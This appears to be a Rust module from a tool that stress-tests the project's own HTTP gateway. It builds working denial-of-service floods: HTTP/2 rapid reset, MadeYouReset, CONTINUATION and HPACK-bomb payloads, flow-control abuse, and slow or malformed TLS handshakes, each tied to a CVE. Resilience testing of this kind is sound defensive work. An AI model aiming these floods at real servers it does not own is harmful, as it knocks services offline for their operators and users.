//! The floods: the bytes, the number of connections, and the listener of each flood.

use clap::ValueEnum;

use crate::frames::{self, CONTINUATION, DATA, HEADERS, PING, RST_STREAM, SETTINGS, WINDOW_UPDATE, frame};
use crate::gateway::FLOODED;
use crate::hello;

/// The approximate size of one write, in bytes.
const BLOCK: usize = 32 * 1024;

/// A flood: cheap for the client, costly for the server.
#[derive(Clone, Copy, Debug, PartialEq, Eq, ValueEnum)]
pub(crate) enum Kind {
    /// Requests that the client resets at once (CVE-2023-44487).
    RapidReset,
    /// Requests with protocol errors, which the gateway must reset (CVE-2025-8671).
    MadeYouReset,
    /// A head without an end (CVE-2024-27316).
    Continuation,
    /// SETTINGS frames, which the gateway must acknowledge (CVE-2019-9515).
    Settings,
    /// PING frames, which the gateway must acknowledge (CVE-2019-9512).
    Ping,
    /// DATA frames without data (CVE-2019-9518).
    EmptyData,
    /// HEADERS frames without fields (CVE-2019-9518).
    EmptyHeaders,
    /// Heads of 16 KiB that decompress to 64 MiB.
    HpackBomb,
    /// Large responses to a client with windows of 0 bytes (CVE-2019-9517).
    NoWindow,
    /// Large responses to a client with large windows that does not read (CVE-2019-9517).
    NoReading,
    /// TLS handshakes that the client does not finish.
    HalfOpen,
    /// TLS handshakes up to the signature of the gateway, again and again.
    Handshakes,
    /// A `ClientHello` at one byte per 100 ms.
    SlowHello,
    /// A `ClientHello` above the limit of its size.
    HugeHello,
    /// A `ClientHello` in records of one byte each.
    FragmentedHello,
}

/// The behaviour of the flooder on each connection.
pub(crate) enum Script {
    /// Sends a beginning, then blocks until the gateway ends the connection.
    Flood(Vec<u8>, Blocks),
    /// Sends a beginning, then nothing, and reads the responses.
    Hold(Vec<u8>),
    /// Sends a beginning, then resets the connection after the first bytes of the response.
    Abort(Vec<u8>),
    /// Sends a beginning, then nothing, and does not read.
    Stall(Vec<u8>),
    /// Sends single bytes, slowly.
    Drip(Vec<u8>),
}

/// The repeated blocks.
pub(crate) enum Blocks {
    /// The same bytes each time.
    Same(Vec<u8>),
    /// Frames on a new stream each time, counted from this stream.
    OfStream(u32, fn(u32) -> Vec<u8>),
}

impl Kind {
    pub(crate) fn name(self) -> &'static str {
        match self {
            Self::RapidReset => "rapid reset",
            Self::MadeYouReset => "MadeYouReset",
            Self::Continuation => "CONTINUATION",
            Self::Settings => "SETTINGS",
            Self::Ping => "PING",
            Self::EmptyData => "empty DATA",
            Self::EmptyHeaders => "empty HEADERS",
            Self::HpackBomb => "HPACK bomb",
            Self::NoWindow => "no window",
            Self::NoReading => "no reading",
            Self::HalfOpen => "half-open TLS",
            Self::Handshakes => "handshakes",
            Self::SlowHello => "slow hello",
            Self::HugeHello => "huge hello",
            Self::FragmentedHello => "hello in bytes",
        }
    }

    /// Whether the flood is for the HTTPS listener. HTTP/2 floods use clear text, which costs the flooder least.
    pub(crate) fn is_of_tls(self) -> bool {
        matches!(
            self,
            Self::HalfOpen | Self::Handshakes | Self::SlowHello | Self::HugeHello | Self::FragmentedHello
        )
    }

    /// The number of connections: `few` for floods that keep the gateway busy, `many` for floods that only wait.
    pub(crate) fn connections(self, few: usize, many: usize) -> usize {
        match self {
            Self::HalfOpen => many,
            Self::SlowHello => many / 10,
            Self::Handshakes => few * 8,
            _ => few,
        }
    }

    pub(crate) fn script(self) -> Script {
        let flood = |settings: &[u8], blocks| Script::Flood(frames::start(settings), blocks);
        let same = |settings: &[u8], frames: Vec<u8>| {
            let times = BLOCK.div_ceil(frames.len());
            flood(settings, Blocks::Same(frames.repeat(times)))
        };
        match self {
            Self::RapidReset => flood(&[], Blocks::OfStream(1, rapid_reset)),
            Self::MadeYouReset => flood(&[], Blocks::OfStream(1, made_you_reset)),
            Self::Continuation => {
                let field = [&b"\x00\x01x\x7f\xff\xff\x01"[..], &[b'y'; 16_000]].concat();
                let mut start = frames::start(&[]);
                // Without END_HEADERS.
                start.extend(frame(HEADERS, 1, 1, &frames::get(FLOODED)));
                Script::Flood(start, Blocks::Same(frame(CONTINUATION, 0, 1, &field)))
            }
            Self::Settings => same(&[], frame(SETTINGS, 0, 0, &[])),
            Self::Ping => same(&[], frame(PING, 0, 0, &[0; 8])),
            Self::EmptyData => {
                let mut start = frames::start(&[]);
                start.extend(frame(HEADERS, 4, 1, &frames::post(FLOODED)));
                Script::Flood(start, Blocks::Same(frame(DATA, 0, 1, &[]).repeat(BLOCK / 9)))
            }
            Self::EmptyHeaders => flood(&[], Blocks::OfStream(1, |stream| frame(HEADERS, 4, stream, &[]))),
            Self::HpackBomb => {
                let mut start = frames::start(&[]);
                // One field as large as the table (RFC 7541, 4.1), which then has the index 62.
                let field = [&b"\x40\x01x\x7f\xe0\x1e"[..], &[b'y'; 4063]].concat();
                start.extend(frame(HEADERS, 5, 1, &[&frames::get(FLOODED)[..], &field].concat()));
                Script::Flood(start, Blocks::OfStream(3, hpack_bomb))
            }
            // INITIAL_WINDOW_SIZE of 0, and of the maximum (RFC 9113, 6.5.2).
            Self::NoWindow => Script::Hold(big_answers(&[0, 4, 0, 0, 0, 0])),
            Self::NoReading => {
                let mut said = big_answers(&[0, 4, 0x7f, 0xff, 0xff, 0xff]);
                said.extend(frame(WINDOW_UPDATE, 0, 0, &0x7fff_0000_u32.to_be_bytes()));
                Script::Stall(said)
            }
            Self::HalfOpen => Script::Hold(hello::whole()),
            Self::Handshakes => Script::Abort(hello::whole()),
            Self::SlowHello => Script::Drip(hello::whole()),
            Self::HugeHello => Script::Hold(hello::huge()),
            Self::FragmentedHello => Script::Hold(hello::in_bytes()),
        }
    }
}

impl Blocks {
    /// The next block.
    pub(crate) fn next(&mut self) -> Vec<u8> {
        match self {
            Self::Same(bytes) => bytes.clone(),
            Self::OfStream(next, frames) => {
                let mut block = Vec::with_capacity(BLOCK * 2);
                while block.len() < BLOCK {
                    block.extend(frames(*next));
                    // A connection has this many streams, and no flood reaches the limit.
                    *next = next.wrapping_add(2) & 0x7fff_ffff;
                }
                block
            }
        }
    }
}

fn rapid_reset(stream: u32) -> Vec<u8> {
    let mut bytes = frame(HEADERS, 5, stream, &frames::get(FLOODED));
    bytes.extend(frame(RST_STREAM, 0, stream, &8_u32.to_be_bytes()));
    bytes
}

/// A window that overflows is an error of the stream (RFC 9113, 6.9.1), which the server must reset.
fn made_you_reset(stream: u32) -> Vec<u8> {
    let mut bytes = frame(HEADERS, 5, stream, &frames::get(FLOODED));
    bytes.extend(frame(WINDOW_UPDATE, 0, stream, &0x7fff_ffff_u32.to_be_bytes()));
    bytes
}

/// The field with the index 62, repeated.
fn hpack_bomb(stream: u32) -> Vec<u8> {
    let mut head = frames::get(FLOODED);
    head.resize(16_384, 0xbe);
    frame(HEADERS, 5, stream, &head)
}

/// Requests for big responses, as many as one connection allows in flight.
fn big_answers(settings: &[u8]) -> Vec<u8> {
    let mut bytes = frames::start(settings);
    for stream in (1..=255).step_by(2) {
        bytes.extend(frame(HEADERS, 5, stream, &frames::get(&format!("{FLOODED}?s=1m"))));
    }
    bytes
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn header_field_of_the_hpack_bomb_fills_the_dynamic_table() {
        let Script::Flood(start, _) = Kind::HpackBomb.script() else { panic!("a flood") };
        let value = start.iter().filter(|byte| **byte == b'y').count();
        // RFC 7541, 4.1 and 5.1: the length is 127 + 0x60 + 0x1e * 128.
        assert_eq!((1 + value + 32, value), (4096, 127 + 0x60 + 0x1e * 128));
    }
}
